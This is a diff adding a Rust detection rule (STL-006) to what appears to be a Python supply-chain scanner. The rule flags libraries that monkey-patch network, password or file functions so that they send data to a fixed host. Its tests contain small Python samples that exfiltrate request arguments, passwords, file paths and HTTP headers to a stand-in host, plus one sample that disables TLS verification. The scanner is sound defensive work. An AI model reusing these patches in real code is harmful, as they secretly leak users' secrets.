@@ -1,0 +1,180 @@
+//! `STL-006`: a function of another library is replaced by one that sends what it is given.
+
+use super::evidence::texts;
+use super::{Rule, in_context, observe_call};
+use crate::observation::{Confidence, Observation, Severity};
+use crate::python::{Analysis, Call, Folded, HOLE, Label, Module, Patch, SinkKind, Step};
+
+/// The rule.
+pub(super) struct PatchedToListen;
+
+impl Rule for PatchedToListen {
+    fn id(&self) -> &'static str {
+        "STL-006"
+    }
+
+    fn severity(&self) -> Severity {
+        Severity::High
+    }
+
+    fn title(&self) -> &'static str {
+        "it replaces a function of another library to listen in"
+    }
+
+    fn manual(&self) -> &'static str {
+        "A function of the network, of passwords, of files or of Python itself is replaced, and \
+         what replaces it sends to an address of its own.\n\n\
+         Whoever calls the function afterwards tells the listener everything, and nothing looks \
+         wrong.\n\n\
+         Mistaken for it: libraries for tracing and for tests, which replace the same functions \
+         but have no constant address to send to."
+    }
+
+    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
+        for module in &analysis.modules {
+            for patch in module
+                .patches
+                .iter()
+                .filter(|patch| is_worth_listening(&patch.target))
+            {
+                let Some(call) = sends_inside(module, patch) else {
+                    continue;
+                };
+                let severity = in_context(Severity::High, patch.context);
+                let confidence = Confidence::of(85).in_context(patch.context);
+                let message = format!(
+                    "{} is replaced, and what replaces it calls {}",
+                    patch.target, call.target
+                );
+                let mut observation = observe_call(self, call, (severity, confidence), message);
+                observation.context = patch.context;
+                let text = format!("{} is replaced: {}", patch.target, patch.code);
+                observation.chain.insert(
+                    0,
+                    Step {
+                        place: patch.place.clone(),
+                        text,
+                    },
+                );
+                observations.push(observation);
+            }
+        }
+    }
+}
+
+/// First parts of names that see secrets pass.
+const HEARING: &[&str] = &[
+    "requests",
+    "urllib",
+    "urllib3",
+    "http",
+    "httpx",
+    "aiohttp",
+    "socket",
+    "ssl",
+    "builtins",
+    "getpass",
+    "os",
+    "subprocess",
+    "sys",
+    "json",
+    "hashlib",
+    "paramiko",
+    "smtplib",
+    "keyring",
+    "boto3",
+    "botocore",
+    "cryptography",
+];
+
+fn is_worth_listening(target: &str) -> bool {
+    let root = target.split('.').next().unwrap_or(target);
+    HEARING.contains(&root)
+}
+
+/// A call that sends something variable to a constant address, in the function that `patch` puts
+/// in.
+fn sends_inside<'m>(module: &'m Module, patch: &Patch) -> Option<&'m Call> {
+    let names: Vec<&str> = match &patch.value {
+        Folded::Name(name) => vec![name],
+        Folded::OneOf(values) => values
+            .iter()
+            .filter_map(|value| match value {
+                Folded::Name(name) => Some(&**name),
+                _ => None,
+            })
+            .collect(),
+        _ => Vec::new(),
+    };
+    let is_inside = |call: &&Call| {
+        names.iter().any(|name| {
+            let rest = call.function.strip_prefix(name);
+            !name.is_empty() && rest.is_some_and(|rest| rest.is_empty() || rest.starts_with('.'))
+        })
+    };
+    let mut inside = module.calls.iter().filter(is_inside);
+    inside.find(|call| {
+        let is_sent = matches!(call.sink, Some(SinkKind::Send | SinkKind::Resolve));
+        let to_constant = texts(call).iter().any(|text| has_constant_host(text))
+            || call.target.contains("socket");
+        let is_variable = call
+            .arguments
+            .iter()
+            .any(|each| !each.labels.has(Label::Const));
+        is_sent && to_constant && is_variable
+    })
+}
+
+fn has_constant_host(text: &str) -> bool {
+    let Some((_, rest)) = text.split_once("://") else {
+        return false;
+    };
+    let host = rest.split(['/', '?', ':']).next().unwrap_or(rest);
+    host.contains('.') && !host.contains(HOLE) && !host.starts_with("127.")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::testing::{found, quiet};
+
+    #[test]
+    fn listeners_are_seen() {
+        for (path, code) in [
+            (
+                "demo/__init__.py",
+                "import requests, urllib.request\nold = requests.post\ndef spy(*a, **k):\n    urllib.request.urlopen('https://collect.invalid', data=str(k).encode())\n    return old(*a, **k)\nrequests.post = spy",
+            ),
+            (
+                "demo/__init__.py",
+                "import getpass, requests\no = getpass.getpass\ndef g(p='Password: '):\n    v = o(p)\n    requests.post('https://collect.invalid/p', data={'v': v})\n    return v\nsetattr(getpass, 'getpass', g)",
+            ),
+            (
+                "demo/__init__.py",
+                "import builtins, requests as r\no = builtins.open\ndef peek(path, *a):\n    r.get('https://collect.invalid/?' + str(path))\n    return o(path, *a)\nbuiltins.open = peek",
+            ),
+            (
+                "demo/__init__.py",
+                "import http.client as h, socket\no = h.HTTPConnection.request\ndef q(self, m, u, b=None, hd={}):\n    s = socket.create_connection(('collect.invalid', 9))\n    s.sendall(str(hd).encode())\n    return o(self, m, u, b, hd)\nh.HTTPConnection.request = q",
+            ),
+        ] {
+            found("STL-006", path, code);
+        }
+    }
+
+    #[test]
+    fn tracing_is_not() {
+        for (path, code) in [
+            (
+                "demo/__init__.py",
+                "import requests, time\no = requests.get\ndef timed(*a, **k):\n    t = time.time()\n    r = o(*a, **k)\n    print(time.time() - t)\n    return r\nrequests.get = timed",
+            ),
+            ("demo/__init__.py", "import socket\nsocket.socket = object"),
+            (
+                "demo/__init__.py",
+                "import ssl\nssl._create_default_https_context = ssl._create_unverified_context",
+            ),
+        ] {
+            quiet("STL-006", path, code);
+        }
+    }
+}
